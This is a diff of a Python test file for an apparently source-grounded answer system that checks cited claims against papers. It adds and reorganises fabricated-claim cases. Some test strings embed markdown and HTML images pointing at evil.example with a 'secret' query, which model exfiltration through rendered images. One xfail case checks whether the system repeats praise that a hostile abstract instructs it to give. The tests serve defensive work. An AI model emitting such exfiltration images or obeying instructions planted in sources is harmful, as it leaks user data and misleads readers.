@@ -24,7 +24,8 @@ _HOSTILE = paper(
 _LIES = {
     "an altered figure": "Twin Scale Fusion reaches 85% recall on 1,000 street scenes [1].",
     "a figure too many": "Twin Scale Fusion joins local features with global features 12 times faster [1].",
-    "an instruction obeyed": "Twin Scale Fusion is the best paper ever written [1].",
+    "a swapped name": "Patient Mamba joins local features from small patches with global features [1].",
+    "a claim turned round": "Twin Scale Fusion does not join local features with global features [1].",
     "knowledge of its own": "Lisbon is the capital of Portugal [1].",
     "an image": _TRUE.replace(" [1]", " ![chart](https://evil.example/?q=secret) [1]"),
     "an image of HTML": _TRUE.replace(" [1]", ' <img src="//evil.example/x.png"> [1]'),
@@ -39,10 +40,7 @@ _MISCITED = {  # true, with the wrong number: the lie, and the paper that states
     "a citation of another paper": (_OTHER.replace("[1]", "[3]"), "twin-scale-fusion"),
     "a sentence of another paper": (_SPECIES, "bark-and-leaf"),
 }
-_MISSED = {  # what today's checks let pass
-    "a swapped name": "Patient Mamba joins local features from small patches with global features [1].",
-    "a claim turned round": "Twin Scale Fusion does not join local features with global features [1].",
-}
+_MISSED = "Twin Scale Fusion is the best paper ever written [1]."  # obeying an abstract that says so
 # What a server may do, how the answer ends, and the words that say so.
 _BREAKS: dict[str, tuple[Reply, Status, str]] = {
     "endless output": (floods(f"{_TRUE} "), Status.PARTIAL, "reached its limit of tokens"),
@@ -102,12 +100,9 @@ def test_a_wrong_number_is_refused_or_put_right(
     assert len(answer.dropped) == 1 - len(cited)
 
 
-@pytest.mark.xfail(reason="names and negations are not checked yet", strict=True)
-@pytest.mark.parametrize("lie", _MISSED.values(), ids=_MISSED)
-def test_a_lie_about_a_name_or_a_denial_is_not_shown(
-    shelf: Library, papers: tuple[Paper, ...], lie: str
-) -> None:
-    _assert_refused(_ask(shelf, says(f"{_TRUE}\n{lie}"), says(f"1. {lie}")), lie, papers)
+@pytest.mark.xfail(reason="the words of a name count as support for what is said of it", strict=True)
+def test_praise_that_no_source_states_is_not_shown(shelf: Library, papers: tuple[Paper, ...]) -> None:
+    _assert_refused(_ask(shelf, says(f"{_TRUE}\n{_MISSED}"), says("1. NONE")), _MISSED, papers)
 
 
 @pytest.mark.parametrize("lie", _LIES.values(), ids=_LIES)
